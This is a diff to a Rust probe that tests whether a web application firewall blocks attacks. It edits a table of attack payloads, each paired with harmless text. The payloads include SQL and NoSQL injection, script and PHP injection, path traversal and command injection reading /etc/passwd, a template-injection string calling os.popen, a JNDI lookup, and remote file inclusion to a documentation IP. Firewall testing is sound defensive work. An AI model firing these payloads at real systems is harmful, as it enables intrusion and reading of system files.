@@ -15,7 +15,7 @@ use crate::wire::exchange::{End, Until};
 
 impl Probe for WafAttackSet {
     fn plan(&self, _: &Target) -> Sends {
-        let count = u32::try_from(2 * FAMILIES.len() * Place::BOTH_WAYS.len()).unwrap_or(u32::MAX);
+        let count = u32::try_from(2 * FAMILIES.len() * Place::TEXTS.len()).unwrap_or(u32::MAX);
         Sends::requests(count, "attacks of each family in query, form and JSON, and harmless texts in the same places")
     }
 
@@ -157,7 +157,7 @@ enum Place {
 }
 
 impl Place {
-    const BOTH_WAYS: [Self; 3] = [Self::Query, Self::Form, Self::Json];
+    const TEXTS: [Self; 3] = [Self::Query, Self::Form, Self::Json];
 
     const fn name(self) -> &'static str {
         match self {
@@ -238,23 +238,32 @@ const fn sample(field: &'static str, text: &'static str) -> Sample {
 }
 
 const fn everywhere(name: &'static str, attack: &'static str, benign: &'static str) -> Family {
-    Family { name, attack: sample("probe", attack), benign: sample("probe", benign), places: &Place::BOTH_WAYS }
+    Family { name, attack: sample("probe", attack), benign: sample("probe", benign), places: &Place::TEXTS }
 }
 
 const FAMILIES: [Family; 11] = [
     everywhere("SQL injection", "1' UNION SELECT name, secret FROM reeve_probe -- ", "union station, select seats"),
     everywhere("script injection", "<script>alert('reeve-probe')</script>", "a script for a play, scene 1"),
     everywhere("path traversal", "../../../../../../etc/passwd", "files/reports/2026/summary.pdf"),
-    everywhere("remote file inclusion", "http://192.0.2.1/reeve-probe.txt?", "see you at the station at 9"),
+    Family {
+        name: "remote file inclusion",
+        attack: sample("file", "http://192.0.2.1/reeve-probe.txt?"),
+        benign: sample("file", "report-2026.pdf"),
+        places: &Place::TEXTS,
+    },
     everywhere("command injection", "; cat /etc/passwd", "cats and dogs"),
     everywhere("PHP injection", "<?php system('id'); ?>", "php is taught on Mondays"),
-    everywhere("template injection", "{{''.__class__.__mro__[1].__subclasses__()}}", "dear {name}"),
+    everywhere(
+        "template injection",
+        "{{config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read()}}",
+        "dear {name}",
+    ),
     everywhere("lookup injection", "${jndi:ldap://192.0.2.1/reeve-probe}", "$20 for two tickets"),
     Family {
         name: "session fixation",
         attack: Sample { beside: FOREIGN, ..sample("jsessionid", "reeveprobe0123456789") },
         benign: Sample { beside: FOREIGN, ..sample("probe", "reeveprobe0123456789") },
-        places: &[Place::Query, Place::Form],
+        places: &[Place::Query],
     },
     Family {
         name: "scanner",
@@ -264,8 +273,8 @@ const FAMILIES: [Family; 11] = [
     },
     Family {
         name: "NoSQL injection",
-        attack: sample("probe[$ne]", "1"),
-        benign: sample("probe[none]", "1"),
+        attack: sample("user[$ne]", "1"),
+        benign: sample("user[name]", "1"),
         places: &[Place::Query, Place::Form],
     },
 ];
